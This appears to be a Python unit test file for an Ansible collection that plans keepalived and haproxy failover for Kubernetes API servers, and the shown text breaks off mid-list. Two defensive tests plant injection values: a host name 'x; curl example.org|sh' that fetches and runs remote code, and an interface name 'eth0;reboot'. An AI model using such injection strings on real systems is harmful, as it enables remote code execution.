# Copyright (c) 2026, the kubeha.apiserver authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The plan by example: what is computed where nothing is written, and where it's taken from."""

from __future__ import annotations

import copy
import json
import re
import typing as t
from pathlib import Path

import pytest
import yaml
from ansible_collections.kubeha.apiserver.plugins.module_utils.model._planfile import join
from ansible_collections.kubeha.apiserver.plugins.plugin_utils.intent import _addresses
from ansible_collections.kubeha.apiserver.plugins.plugin_utils.intent._errors import PlanError
from ansible_collections.kubeha.apiserver.plugins.plugin_utils.plan._plan import compute_plan
from ansible_collections.kubeha.apiserver.tests.unit import configs, planning
from ansible_collections.kubeha.apiserver.tests.unit.planning import (
    THREE,
    VIP,
    VIP6,
    codes,
    entries,
    first,
    host,
    hosts,
    intent,
    network,
    offline,
    plan,
    pods,
    problems,
    stored,
    warned,
)

ROOT = Path(__file__).resolve().parents[5]


def members(wanted: t.Any = None, known: t.Any = None, deployed: t.Any = None, instance: int = 0) -> list[t.Any]:
    return first(wanted, known, deployed)["instances"][instance]["members"]


def places(wanted: t.Any = None, known: t.Any = None, deployed: t.Any = None) -> list[str]:
    return ["%s %s/%d" % (member["interface"], member["address"], member["prefix"])
            for member in members(wanted, known, deployed)]


def backends(wanted: t.Any = None, known: t.Any = None, deployed: t.Any = None) -> list[str]:
    return [backend["address"] for backend in first(wanted, known, deployed)["backends"]]


def known_with(name: str, **more: t.Any) -> dict[str, t.Any]:
    found = hosts()
    found[name] = {**found.get(name, {}), **more}
    return found


def on_wires(*wires: tuple[str, str, int]) -> dict[str, t.Any]:
    """Three hosts with the same networks: interface, pattern of the address, prefix."""
    return {name: {"networks": [network(interface, pattern % number, prefix) for interface, pattern, prefix in wires]}
            for number, name in enumerate(THREE, 11)}


# The whole

def test_one_variable_is_enough() -> None:
    """The example of docs/architecture.md, which leaves out what docs/plan.md says."""
    text = (ROOT / "docs" / "architecture.md").read_text(encoding="utf-8")
    example = yaml.safe_load(re.findall(r"```yaml\n(schema:.*?)```", text, re.DOTALL)[0])
    example["warnings"] = []
    found = plan()
    endpoint = found["endpoints"][0]
    assert len(endpoint["instances"][0]["members"]) == len(endpoint["backends"]) == 3
    del endpoint["instances"][0]["members"][1:]
    del endpoint["backends"][1:]
    assert shown(found, example) == example


def shown(found: t.Any, example: t.Any) -> t.Any:
    """What an example shows of a plan."""
    if isinstance(example, dict):
        return {key: shown(found[key], item) for key, item in example.items()}
    if isinstance(example, list) and len(example) == len(found):
        return [shown(*pair) for pair in zip(found, example)]
    return found


def test_dual_stack_is_two_instances_that_fail_over_together() -> None:
    endpoint = first(intent(vip=[VIP6, VIP]))
    assert [instance["name"] for instance in endpoint["instances"]] == ["kube-apiserver-ipv4", "kube-apiserver-ipv6"]
    assert endpoint["sync_group"] == "kube-apiserver"
    assert [instance["vips"] for instance in endpoint["instances"]] == [
        [{"address": VIP, "prefix": 24}], [{"address": VIP6, "prefix": 64}]]
    assert endpoint["control_plane_endpoint"] == "[2001:db8::100]:8443"
    assert endpoint["haproxy"]["binds"] == [
        {"address": "*", "port": 8443, "family": "ipv4"}, {"address": "*", "port": 8443, "family": "ipv6"}]
    assert [backend["address"] for backend in endpoint["backends"]] == ["2001:db8::11", "2001:db8::12", "2001:db8::13"]


@pytest.mark.parametrize("written", [
    VIP, [VIP], VIP + "/24", VIP + "/32", "  %s\n" % VIP, (VIP,)])
def test_a_vip_may_carry_its_subnets_prefix(written: t.Any) -> None:
    assert plan(intent(vip=written)) == plan()


@pytest.mark.parametrize("written", ["2001:DB8:0::100", VIP6 + "/64", VIP6 + "/128"])
def test_an_ipv6_vip_may_too(written: str) -> None:
    assert plan(intent(vip=written)) == plan(intent(vip=VIP6))


def test_several_vips_of_one_family_share_an_instance() -> None:
    endpoint = first(intent(vip="198.51.100.100, 198.51.100.200"))
    assert [vip["address"] for vip in endpoint["instances"][0]["vips"]] == ["198.51.100.100", "198.51.100.200"]
    assert endpoint["instances"][0]["virtual_router_id"] == 100


def test_endpoints_inherit_what_is_said_beside_the_list() -> None:
    wanted = entries(
        {"name": "a", "vip": VIP},
        {"name": "b", "vip": "198.51.100.101", "timing": "safe", "failback": None, "lb_hosts": ["cp3", "cp1"],
         "hosts": {"cp1": {"priority": 160}}},
        failback=False, timing="aggressive", port=9443)
    one, two = plan(wanted)["endpoints"]
    assert (one["failback"], one["timing"]["profile"], one["port"]) == (False, "aggressive", 9443)
    assert (two["failback"], two["timing"]["profile"], two["port"]) == (False, "safe", 9443)
    assert [(member["host"], member["priority"]) for member in two["instances"][0]["members"]] == [
        ("cp3", 150), ("cp1", 160)]


def test_vips_of_a_fleet_prefer_different_hosts() -> None:
    wanted = entries({"name": "a", "vip": VIP}, {"name": "b", "vip": "198.51.100.101", "lb_hosts": THREE[::-1]})
    masters = [member["host"] for endpoint in plan(wanted)["endpoints"]
               for member in endpoint["instances"][0]["members"] if member["state"] == "MASTER"]
    assert masters == ["cp1", "cp3"]


def test_static_pods_have_images_and_a_folder() -> None:
    image = "registry.example.org:5000/library/haproxy:3.0@sha256:" + "0" * 64
    endpoint = first(pods(manifest_dir="/srv/manifests/", haproxy_image=image, keepalived_image_pull_policy="Never"))
    assert endpoint["manifest_dir"] == "/srv/manifests"
    assert endpoint["images"] == {
        "haproxy": {"image": image, "pull_policy": "IfNotPresent", "user": 99},
        "keepalived": {"image": "docker.io/library/keepalived:2.3.3", "pull_policy": "Never", "user": 0}}
    assert endpoint["image_auth"] == []


@pytest.mark.parametrize("written, prefix, expected", [
    (None, None, "docker.io/library/haproxy:3.0.11"),
    (None, "registry.example.org:5000/mirror", "registry.example.org:5000/mirror/haproxy:3.0.11"),
    ("haproxytech/haproxy-debian:3.0", None, "docker.io/haproxytech/haproxy-debian:3.0"),
    ("haproxytech/haproxy-debian:3.0", "localhost", "localhost/haproxytech/haproxy-debian:3.0"),
    ("localhost/haproxy:3.0", "registry.example.org", "localhost/haproxy:3.0"),
    ("quay.io/x/haproxy:3.0", "registry.example.org", "quay.io/x/haproxy:3.0")])
def test_an_image_without_a_registry_is_in_the_users_own(
        written: str | None, prefix: str | None, expected: str) -> None:
    found = first(pods(haproxy_image=written, image_prefix=prefix))
    assert found["images"]["haproxy"]["image"] == expected


@pytest.mark.parametrize("image, running, written, expected", [
    ("keepalived:2.3.3", None, None, "2.3.3"),
    ("keepalived:v2.2.7-alpine3", None, None, "2.2.7"),
    ("keepalived:2.3.3@sha256:" + "0" * 64, "2.2.7", None, "2.3.3"),     # the pod is of the image before
    ("keepalived:2.3", "2.3.4", None, "2.3.4"),
    ("keepalived:2.3", "2.2.7", None, "2.3.0"),
    ("keepalived:2.3.3", "2.3.3", "2.2.4", "2.2.4"),
    ("keepalived@sha256:" + "0" * 64, "2.2.7", None, "2.2.7"),
    ("keepalived@sha256:" + "0" * 64, None, None, "2.1.5"),
    ("keepalived:2025.10.1", None, None, "2.1.5"),
    ("keepalived:trixie", "nonsense", None, "2.1.5")])
def test_what_a_static_pod_can_do_is_told_by_its_image(
        image: str, running: str | None, written: str | None, expected: str) -> None:
    """The version that is installed on the host means nothing."""
    known = {name: host(n, keepalived_version="2.4.9", keepalived_pod_version=running)
             for n, name in enumerate(planning.THREE, 11)}
    assert first(pods(keepalived_image=image, keepalived_version=written), known)["versions"]["keepalived"] == expected


def test_a_digest_is_what_was_planned_before() -> None:
    image = "keepalived@sha256:" + "0" * 64
    before = {"cp1": plan(pods(keepalived_image=image, keepalived_version="2.3.1"))}
    found = compute_plan(pods(keepalived_image=image), hosts(), before)
    assert found["endpoints"][0]["versions"]["keepalived"] == "2.3.1"
    services = {"cp1": plan(intent(keepalived_version="2.3.1"))}
    found = compute_plan(pods(keepalived_image=image), hosts(), services)
    assert found["endpoints"][0]["versions"]["keepalived"] == "2.1.5", "that was a service's"


@pytest.mark.parametrize("image, timing, expected", [
    ("keepalived:2.3.2", None, (0.5, 1, 2)), ("keepalived:2.3.1", None, (1, 1, 2)),
    ("keepalived:2.3.3", "kubeadm", (0.5, 1, 10)), ("keepalived:2.3.3", {"local_interval": 0.2}, (0.2, 1, 2))])
def test_a_pod_that_refuses_is_down_at_once(image: str, timing: t.Any, expected: tuple[float, int, int]) -> None:
    local = first(pods(keepalived_image=image, timing=timing))["checks"][0]
    assert (local["interval"], local["fall"], local["hangs"]) == expected


def test_passwords_of_registries_stay_out_of_the_plan() -> None:
    auth = {"registry.example.org": {"username": "pull", "password": "hunter2"}}
    found = plan(pods(image_auth=auth))
    assert found["endpoints"][0]["image_auth"] == ["registry.example.org"]
    assert "hunter" not in str(found) and "pull:" not in str(found)


def test_without_netaddr_there_is_one_clear_sentence(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(_addresses, "HAS_NETADDR", False)
    with pytest.raises(ImportError, match="needs the Python package netaddr"):
        compute_plan(intent(), hosts(), {})


def test_the_error_names_every_problem() -> None:
    with pytest.raises(PlanError) as caught:
        plan(intent(vip="10.1", port="none"))
    assert str(caught.value).splitlines()[0] == "The plan has 2 problems; no host was touched."
    wanted = "endpoint_vip is '10.1': must be one IPv4 or IPv6 address: an IPv4 address has four parts."
    assert wanted in str(caught.value)


def test_a_tagged_text_is_a_text() -> None:
    class Tagged(str):
        def __str__(self) -> str:
            raise AssertionError("not to be called")

    wanted = {Tagged(key): Tagged(value) if isinstance(value, str) else [Tagged(item) for item in value]
              for key, value in intent(name="api", dns_name="API.example.org").items()}
    known = {Tagged(name): {**value, "keepalived_version": Tagged("2.2.7")} for name, value in hosts().items()}
    endpoint = first(wanted, known)
    assert endpoint["dns_name"] == "api.example.org"
    assert not any(isinstance(member["host"], Tagged) for member in endpoint["instances"][0]["members"])
    assert not isinstance(endpoint["name"], Tagged)


# Where hosts are

def test_a_subnet_on_several_interfaces_is_told_apart_by_the_inventory() -> None:
    two = [network("eth0", "198.51.100.22", 24), network("eth1", "198.51.100.12", 24)]
    assert places(known=known_with("cp2", networks=two))[1] == "eth1 198.51.100.12/24"


def test_the_most_specific_subnet_counts() -> None:
    known = on_wires(("eth0", "198.51.0.%d", 16), ("eth1", "198.51.100.%d", 24))
    assert places(known=known)[0] == "eth1 198.51.100.11/24"


def test_of_several_addresses_of_an_interface_the_first_counts() -> None:
    several = [network("eth0", "198.51.100.%d" % number, 24) for number in (62, 12, 72)]
    known = known_with("cp2", inventory_address="cp2", networks=several)
    assert places(known=known)[1] == "eth0 198.51.100.62/24"


def test_a_deployed_address_stays_as_long_as_the_host_has_it() -> None:
    several = [network("eth0", "198.51.100.%d" % number, 24) for number in (62, 12, 72)]
    known = known_with("cp2", inventory_address="cp2", networks=several)
    assert places(known=known, deployed=stored(plan()))[1] == "eth0 198.51.100.12/24"


def test_the_inventory_s_address_counts_more_than_the_deployed_one() -> None:
    several = [network("eth0", "198.51.100.%d" % number, 24) for number in (12, 72)]
    known = known_with("cp2", inventory_address="198.51.100.72", networks=several)
    assert places(known=known, deployed=stored(plan()))[1] == "eth0 198.51.100.72/24"


def test_what_is_written_counts_most() -> None:
    several = [network("eth0", "198.51.100.12", 24), network("eth1", "198.51.100.72", 24)]
    assert places(known=known_with("cp2", networks=several, interface="eth1"))[1] == "eth1 198.51.100.72/24"
    assert places(known=known_with("cp2", networks=several, address="198.51.100.72"))[1] == "eth1 198.51.100.72/24"
    wanted = entries({"vip": VIP, "hosts": {"cp2": {"address": "198.51.100.72/24"}}})
    assert places(wanted, known_with("cp2", networks=several, address="198.51.100.12"))[1] == "eth1 198.51.100.72/24"
    wanted = entries({"vip": VIP, "interface": "eth1"}, lb_hosts="cp2")
    assert places(wanted, known_with("cp2", networks=several, interface="eth0"))[0] == "eth1 198.51.100.72/24"
    wanted = intent(lb_hosts="cp2", interface="eth1")
    assert places(wanted, known_with("cp2", networks=several, interface="eth0"))[0] == "eth0 198.51.100.12/24"


def test_without_facts_the_inventory_is_enough() -> None:
    known = {name: {**said, "interface": "ens3"} for name, said in offline().items()}
    assert places(intent(vip=VIP + "/24"), known) == ["ens3 198.51.100.1%d/24" % number for number in (1, 2, 3)]
    known = {"cp%d" % number: {"address": "198.51.100.1%d/24" % number, "interface": "ens3"} for number in (1, 2, 3)}
    assert places(known=known) == ["ens3 198.51.100.1%d/24" % number for number in (1, 2, 3)]


def test_one_host_with_a_prefix_tells_the_subnet_for_all() -> None:
    known = {**offline(), "cp2": host(12)}
    for name in ("cp1", "cp3"):
        known[name]["interface"] = "ens3"
    assert places(known=known) == ["ens3 198.51.100.11/24", "eth0 198.51.100.12/24", "ens3 198.51.100.13/24"]


def test_an_address_that_stands_alone_counts_alike_written_and_reported() -> None:
    alone = [network("eth0", "198.51.100.12", 32)]
    reported = places(known=known_with("cp2", networks=alone))
    assert places(known=known_with("cp2", networks=alone, address="198.51.100.12/32")) == reported
    assert places(known=known_with("cp2", networks=alone, address="198.51.100.12")) == reported
    offline_host = {"cp2": {"address": "198.51.100.12/32", "interface": "eth0"}}
    assert places(known={**hosts(), **offline_host}) == reported


def test_a_host_behind_a_floating_address_is_asked_or_found_where_it_is() -> None:
    known = known_with("cp2", inventory_address="203.0.113.12")
    assert places(known=known) == places()
    known["cp2"]["networks"] = None
    assert codes(known=known) == ["inventory_outside_subnet"]


def test_an_api_server_behind_a_floating_address_is_found_where_it_is() -> None:
    known = {**hosts(), "api": {"inventory_address": "203.0.113.9", "networks": [network("eth0", "10.0.0.9", 24)]}}
    wanted = intent(apiserver_hosts=["api"])
    assert backends(wanted, known) == ["10.0.0.9"]
    assert "backend_guessed" not in warned(wanted, known)
    known["api"]["networks"] = None
    assert backends(wanted, known) == ["203.0.113.9"]
    assert "backend_guessed" in warned(wanted, known)


def test_hosts_that_cannot_be_asked_are_found_in_a_stored_plan() -> None:
    deployed = {"cp3": stored(plan())["cp3"]}
    known = {
        "cp1": {"inventory_address": "cp1.example.org"}, "cp2": {"inventory_address": "203.0.113.12"}, "cp3": host(13)}
    assert places(known=known, deployed=deployed) == places()
    assert backends(known=known, deployed=deployed) == backends()


def test_what_keepalived_speaks_counts_where_its_turn_never_came() -> None:
    old, new = (plan(intent(virtual_router_id=number)) for number in (9, 77))
    for speaks, number in ((old, 9), (None, 77), (plan(intent(name="other")), 77)):
        deployed = {name: join(new, speaks) for name in hosts()}
        assert first(deployed=deployed)["instances"][0]["virtual_router_id"] == number


def test_an_address_that_was_a_vip_is_nobodys_own() -> None:
    """The endpoint is new, but an older one's VIP is still on the interface, before the host's own address."""
    deployed = stored(plan(intent(vip="198.51.100.50", name="old")))
    known = known_with("cp2", inventory_address="cp2", networks=[
        network("eth0", "198.51.100.50", 24), network("eth0", "198.51.100.12", 24)])
    assert places(intent(name="new"), known, deployed)[1] == "eth0 198.51.100.12/24"


def test_a_vip_is_no_host_s_address_because_a_host_holds_it() -> None:
    known = known_with("cp2", networks=[network("kube-ipvs0", VIP, 32), *host(12)["networks"]])
    assert places(known=known) == places()
    known = known_with("cp2", inventory_address=None, networks=[network("eth0", VIP, 24)])
    assert codes(known=known)[0] == "vip_is_host_address"


def test_addresses_that_stand_alone() -> None:
    """DHCPv6 and some providers give /128 and /32, and routers tell the subnet."""
    known = on_wires(("eth0", "2001:db8::%d", 128))
    assert places(intent(vip=VIP6 + "/64"), known)[0] == "eth0 2001:db8::11/64"
    assert codes(intent(vip=VIP6), known) == ["subnet_unknown"]
    written = {name: {**said, "address": said["networks"][0]["address"] + "/64"} for name, said in known.items()}
    assert places(intent(vip=VIP6), written)[0] == "eth0 2001:db8::11/64"
    assert places(intent(vip=VIP6), {**known, "cp3": host(13)})[0] == "eth0 2001:db8::11/64"


def test_a_vip_that_routers_bring() -> None:
    wanted = intent(vip=["203.0.113.1", "203.0.113.2/32"], vip_routed=True)
    endpoint = first(wanted)
    assert endpoint["vips"][0] == {"address": "203.0.113.1", "prefix": 32, "family": "ipv4"}
    assert places(wanted)[0] == "eth0 198.51.100.11/24"
    two = [network("eth0", "198.51.100.12", 24), network("eth1", "10.0.0.12", 24)]
    assert places(wanted, known_with("cp2", networks=two)) == places(wanted), "the inventory's address decides"
    only = {"inventory_address": "cp", "networks": two[:1]}
    assert places(wanted, known_with("cp2", **only)) == places(wanted)


def test_link_local_addresses_are_never_used() -> None:
    known = on_wires(("eth0", "fe80::%d", 64), ("eth0", "198.51.100.%d", 24))
    assert set(codes(intent(vip="2001:db8::100", vip_routed=True), known)) == {"address_unknown"}


def test_a_forwarded_port_is_no_address() -> None:
    known = {name: {**host(number), "inventory_address": "127.0.0.1"} for number, name in enumerate(THREE, 11)}
    assert backends(known=known) == backends()
    assert places(known=known) == places()


@pytest.mark.parametrize("interface", ["eth0;reboot", "eth0\n", "", ".", None, 5])
def test_interfaces_with_dangerous_names_are_ignored(interface: t.Any) -> None:
    networks = [{"interface": interface, "address": "198.51.100.12", "prefix": 24}]
    known = known_with("cp2", networks=networks)
    assert codes(known=known) == ["interface_unknown"]
    known = known_with("cp2", networks=networks + host(12)["networks"])
    assert places(known=known) == places() and warned(known=known) == ["facts_unreadable"]
    deployed = stored(plan())
    for found in deployed.values():
        found["endpoints"][0]["instances"][0]["members"][1]["interface"] = interface
    deployed = json.loads(json.dumps(deployed))
    known = known_with("cp2", networks=[])
    assert codes(known=known, deployed=deployed) == ["bad_stored_plan"] * 3 + ["interface_unknown"]


# API servers

def test_api_servers_elsewhere() -> None:
    wanted = intent(apiserver_hosts=["s1", "s2", "s3", "s4"])
    known = hosts()
    known["s1"] = {"networks": [network("eth0", "10.9.0.1", 24), network("eth1", "198.51.100.31", 24)]}
    known["s2"] = {"inventory_address": "10.9.0.2", "networks": [
        network("eth0", "10.9.0.2", 24), network("cni0", "10.244.0.1", 24)]}
    known["s3"] = {"networks": [network("eth0", "10.9.0.3", 24)]}
    known["s4"] = {"address": "10.9.0.4", "networks": [
        network("eth0", "10.9.0.4", 24), network("eth1", "198.51.100.34", 24)]}
    endpoint = first(wanted, known)
    assert [backend["address"] for backend in endpoint["backends"]] == [
        "198.51.100.31", "10.9.0.2", "10.9.0.3", "10.9.0.4"]
    assert (endpoint["port"], endpoint["stacked"]) == (6443, False)
    assert endpoint["haproxy"]["binds"][0]["port"] == 6443


def test_an_api_server_that_cannot_be_asked_stays_where_it_is() -> None:
    """Its address in the inventory is how Ansible gets there, which may be another network."""
    wanted = intent(apiserver_hosts=["s1"])
    deployed = stored(plan(wanted, {**hosts(), "s1": host(31)}))
    known = {**hosts(), "s1": {"inventory_address": "203.0.113.31"}}
    assert backends(wanted, known) == ["203.0.113.31"]
    assert backends(wanted, known, deployed) == ["198.51.100.31"]


def test_api_servers_of_the_other_family_are_better_than_none() -> None:
    wanted = intent(vip=VIP6, apiserver_hosts=["s1"])
    assert backends(wanted, {**hosts(), "s1": {"inventory_address": "10.9.0.1"}}) == ["10.9.0.1"]


# Ports

def test_endpoints_that_share_a_port_bind_their_vips() -> None:
    wanted = entries({"name": "a", "vip": VIP, "lb_hosts": ["cp1", "cp2"]},
                     {"name": "b", "vip": ["198.51.100.101", VIP6], "lb_hosts": ["cp2", "cp3"]},
                     {"name": "c", "vip": "198.51.100.102", "lb_hosts": ["cp4"]}, apiserver_hosts=["cp4"], port=8443)
    found = [endpoint["haproxy"] for endpoint in plan(wanted, hosts(4))["endpoints"]]
    assert [haproxy["nonlocal_bind"] for haproxy in found] == [True, True, False]
    assert [[bind["address"] for bind in haproxy["binds"]] for haproxy in found] == [
        [VIP], ["198.51.100.101", VIP6], ["*"]]


def test_another_endpoint_s_api_server_counts_too() -> None:
    wanted = entries({"name": "a", "vip": VIP, "lb_hosts": ["cp1"], "apiserver_hosts": ["cp2"]},
                     {"name": "b", "vip": "198.51.100.101", "lb_hosts": ["cp3"], "apiserver_hosts": ["cp1"]})
    assert [endpoint["port"] for endpoint in plan(wanted)["endpoints"]] == [8443, 6443]


@pytest.mark.parametrize("odd", THREE)
def test_what_most_hosts_have_is_deployed_and_who_differs_is_named(odd: str) -> None:
    """Wherever it stands in the order: its port, its virtual router ID, its address of a host that says nothing."""
    most = stored(plan(intent(virtual_router_id=55)))
    most[odd] = stored(plan(intent(virtual_router_id=7, port=7443)))[odd]
    assert first(deployed=most)["instances"][0]["virtual_router_id"] == 55
    told = [text for text in plan(deployed=most)["warnings"] if "[host_differs]" in text]
    assert len(told) == 2 and all(text.startswith(odd + " stored 7") for text in told)
    silent = {**hosts(), "cp4": {"inventory_address": "cp4"}}
    wanted = intent(apiserver_hosts=[*THREE, "cp4"])
    most = {name: copy.deepcopy(found) for name, found in stored(plan(wanted, {**hosts(), "cp4": host(14)})).items()}
    for item in most[odd]["endpoints"][0]["backends"]:
        if item["name"] == "cp4":
            item["address"] = "198.51.100.66"
    found = plan(wanted, silent, most)
    assert found["endpoints"][0]["backends"][3]["address"] == "198.51.100.14"
    assert any("[host_differs]" in text and odd in text and "66" in text for text in found["warnings"])


def test_hosts_that_cannot_agree_are_asked_about() -> None:
    """A run that was cut short left two values behind, and what was wanted isn't written any more."""
    half = {"cp1": stored(plan(intent(virtual_router_id=55)))["cp1"],
            "cp2": stored(plan(intent(virtual_router_id=7, port=7443)))["cp2"]}
    assert codes(deployed=half) == ["hosts_disagree", "hosts_disagree"]
    assert "8443 on cp1; 7443 on cp2" in next(item for item in problems(deployed=half) if "port" in item.where).rule
    written = intent(virtual_router_id=7, port=7443)
    assert first(written, deployed=half)["instances"][0]["virtual_router_id"] == 7
    assert {"vrid_changes", "port_changes"} <= set(warned(written, deployed=half))
    # One that is alone to say something is believed.
    assert first(intent(port=7443), deployed={"cp2": half["cp2"]})["instances"][0]["virtual_router_id"] == 7


def test_plans_that_cannot_be_read() -> None:
    """A minority is told by the others; else going on could make two holders. Somebody may know better."""
    whole = stored(plan(intent(virtual_router_id=55)))
    newer = {name: dict(found, schema=2) for name, found in whole.items()}
    assert codes(deployed=newer) == ["newer_stored_plan"] * 3
    assert codes(deployed={**whole, "cp3": newer["cp3"]}) == ["newer_stored_plan"]
    junk = {**whole, "cp3": {"schema": 1, "endpoints": [{"name": "kube-apiserver"}]}}
    assert first(deployed=junk)["instances"][0]["virtual_router_id"] == 55
    assert "deployed_unreadable" in warned(deployed=junk)
    worse = {**junk, "cp2": 1, "cp1": {"schema": True}}
    assert codes(deployed=worse) == ["bad_stored_plan"] * 3 and "cp1: " in problems(deployed=worse)[0].where
    known = intent(accept_findings=["bad_stored_plan"], virtual_router_id=55, port=8443)
    assert first(known, deployed=worse)["instances"][0]["virtual_router_id"] == 55


def test_no_stored_plan_puts_words_into_a_command() -> None:
    deployed = stored(plan(intent(lb_hosts=[*THREE, "cp4"]), {**hosts(), "cp4": host(14)}))
    for found in deployed.values():
        members = found["endpoints"][0]["instances"][0]["members"]
        members[2]["host"], members[3]["host"] = "x; curl example.org|sh", "cp9"
    deployed = {name: json.loads(json.dumps(deployed[name])) for name in ("cp1", "cp2")}
    [text] = [text for text in plan(deployed=deployed)["warnings"] if "[member_gone]" in text]
    assert "endpoint_hosts=cp9 then" in text and "endpoint_hosts=x" not in text


def test_one_host_cannot_make_the_addresses_of_others_vips() -> None:
    deployed = stored(plan())
    liar = copy.deepcopy(deployed["cp3"])
    liar["endpoints"][0]["vips"].append({"address": "198.51.100.12", "prefix": 24, "family": "ipv4"})
    known = known_with("cp2", inventory_address="cp2")
    assert places(known=known, deployed={**deployed, "cp3": liar}) == places()


def test_a_renamed_endpoint_is_known_by_its_vip() -> None:
    deployed = stored(plan(intent(port=9443)))
    assert codes(intent(name="new"), deployed=deployed) == ["port_would_change"]
    assert codes(intent(name="new", vip="198.51.100.101"), deployed=deployed) == []


def test_a_former_balancer_tells_what_is_deployed_too() -> None:
    deployed = {"cp3": stored(plan(intent(port=9443)))["cp3"]}
    assert codes(intent(vip="198.51.100.101", lb_hosts=["cp1", "cp2"]), deployed=deployed) == [
        "member_left", "port_would_change"]


def test_another_cluster_s_endpoint_of_the_same_name_is_another() -> None:
    others = {"x%d" % number: host(20 + number) for number in (1, 2)}
    deployed = stored(plan(intent(vip="198.51.100.110", port=9443, lb_hosts=list(others), apiserver_hosts=list(others)),
                           others))
    assert codes(deployed=deployed) == []


# Virtual router IDs

@pytest.mark.parametrize(("vip", "number"), [
    ("10.0.1.1", 1), ("10.0.1.100", 100), ("10.0.1.255", 255), ("10.0.1.0", 255), ("2001:db8::64", 100),
    ("2001:db8::ff", 255), ("2001:db8::100", 1), ("2001:db8::1:0", 255)])
def test_ids_follow_from_vips(vip: str, number: int) -> None:
    known = on_wires(("eth0", "10.0.0.%d", 16), ("eth0", "2001:db8::f:%d", 64))
    assert first(intent(vip=vip), known)["instances"][0]["virtual_router_id"] == number


def test_an_id_for_each_family() -> None:
    endpoint = first(intent(vip=[VIP, VIP6], virtual_router_id={"ipv6": "17"}))
    assert [instance["virtual_router_id"] for instance in endpoint["instances"]] == [100, 17]
    endpoint = first(intent(vip=[VIP, VIP6], virtual_router_id=9))
    assert [instance["virtual_router_id"] for instance in endpoint["instances"]] == [9, 9]


def test_ids_of_two_subnets_on_one_interface_differ() -> None:
    """keepalived refuses the same ID twice on an interface, whatever the addresses."""
    known = on_wires(("eth0", "10.0.0.%d", 24), ("eth0", "10.0.1.%d", 24))
    wanted = entries({"name": "a", "vip": "10.0.0.100"}, {"name": "b", "vip": "10.0.1.100"})
    found = plan(wanted, known)
    assert [endpoint["instances"][0]["virtual_router_id"] for endpoint in found["endpoints"]] == [100, 101]
    assert "set endpoint_list[1].virtual_router_id to 101" in found["warnings"][0]
    two = on_wires(("eth0", "10.0.0.%d", 24), ("eth1", "10.0.1.%d", 24))
    assert [endpoint["instances"][0]["virtual_router_id"] for endpoint in plan(wanted, two)["endpoints"]] == [100, 100]


def test_the_warning_pins_the_family_it_is_about() -> None:
    deployed = stored(plan(intent(vip=[VIP, VIP6], virtual_router_id={"ipv6": 17})))
    warning = plan(intent(vip=[VIP, VIP6]), deployed=deployed)["warnings"][0]
    assert "keeps virtual router ID 17" in warning and "endpoint_virtual_router_id to {ipv6: 17}" in warning


def test_255_fit() -> None:
    known = on_wires(("eth0", "10.0.0.%d", 16))
    wanted = entries(*({"name": "e%d" % n, "vip": "10.0.%d.7" % (n + 1)} for n in range(254)))
    found = {endpoint["instances"][0]["virtual_router_id"] for endpoint in plan(wanted, known)["endpoints"]}
    assert len(found) == 254


# Versions and timing

def test_one_process_serves_all_endpoints_of_a_host() -> None:
    """cp1 and cp3 share no endpoint, but both share one with cp2."""
    known = hosts(4)
    known["cp1"]["keepalived_version"] = "2.1.5"
    known["cp3"]["haproxy_version"] = "2.2.9"
    wanted = entries({"name": "a", "vip": VIP, "lb_hosts": ["cp1", "cp2"]},
                     {"name": "b", "vip": "198.51.100.101", "lb_hosts": ["cp2", "cp3"], "port": 9443},
                     {"name": "c", "vip": "198.51.100.102", "lb_hosts": ["cp4"]})
    assert [endpoint["versions"] for endpoint in plan(wanted, known)["endpoints"]] == [
        {"keepalived": "2.1.5", "haproxy": "2.2.9"}, {"keepalived": "2.1.5", "haproxy": "2.2.9"},
        {"keepalived": "2.2.7", "haproxy": "2.6.12"}]


def test_unknown_versions_are_the_floor_or_what_is_written() -> None:
    assert first(known={name: {**said, "keepalived_version": None} for name, said in hosts().items()})["versions"] == {
        "keepalived": "2.1.5", "haproxy": "2.6.12"}
    known = {name: {"networks": said["networks"]} for name, said in hosts().items()}
    wanted = intent(keepalived_version="1:2.3.3-1", haproxy_version="3.0.11-1+deb13u1")
    assert first(wanted, known)["versions"] == {"keepalived": "2.3.3", "haproxy": "3.0.11"}
    assert first(wanted)["versions"] == {"keepalived": "2.2.7", "haproxy": "2.6.12"}, "hosts know better"
    assert warned(wanted, known) == []


def test_a_host_that_cannot_be_asked_has_the_version_that_was_planned_for_it() -> None:
    deployed = stored(plan())
    silent = known_with("cp2", keepalived_version=None)
    assert first(known=silent, deployed=deployed)["versions"]["keepalived"] == "2.2.7"
    assert warned(known=silent, deployed=deployed) == []
    older = {"cp3": stored(plan(known=known_with("cp3", keepalived_version="2.1.5")))["cp3"]}
    assert first(known=silent, deployed={**older, "cp1": deployed["cp1"]})["versions"]["keepalived"] == "2.1.5"
    assert first(known=silent, deployed=older)["versions"]["keepalived"] == "2.1.5"
    newcomer = {**hosts(), "cp4": host(14, keepalived_version=None)}
    wanted = intent(lb_hosts=[*THREE, "cp4"])
    assert first(wanted, newcomer, deployed)["versions"]["keepalived"] == "2.1.5"
    deployed["cp1"]["endpoints"][0]["versions"] = {"keepalived": 10 ** 5000}
    assert "bad_stored_plan" in codes(known=silent, deployed={"cp1": deployed["cp1"]})


@pytest.mark.parametrize(("more", "version", "expected"), [
    ({}, "2.2.7", (3, 0.1, 10)),
    ({}, "2.2.3", (3, 0.1, 10)),
    ({}, "2.2.2", (3, 0.3, None)),
    ({"timing": "safe"}, "2.2.7", (3, 0.1, 30)),
    ({"timing": "safe"}, "2.1.5", (3, 1, None)),
    ({"timing": "aggressive"}, "2.2.7", (3, 0.1, 5)),
    ({"timing": "aggressive"}, "2.1.5", (3, 0.2, None)),
    ({"timing": "kubeadm"}, "2.2.7", (3, 1, None)),
    ({"timing": {"advert_interval": "0.05"}}, "2.2.7", (3, 0.05, 10)),
    ({"timing": {"advert_interval": 0.05}}, "2.1.5", (3, 0.05, None)),
    ({"timing": {"down_timer_adverts": 3}}, "2.1.5", (3, 0.3, None)),
    ({"timing": {"profile": "safe", "down_timer_adverts": 20}}, "2.2.7", (3, 0.1, 20)),
    ({"auth": "pass", "auth_password": "x"}, "2.2.7", (2, 1, None)),
    ({"auth": "pass", "auth_password": "x", "timing": {"advert_interval": 2, "down_timer_adverts": 5}}, "2.2.7",
     (2, 2, 5)),
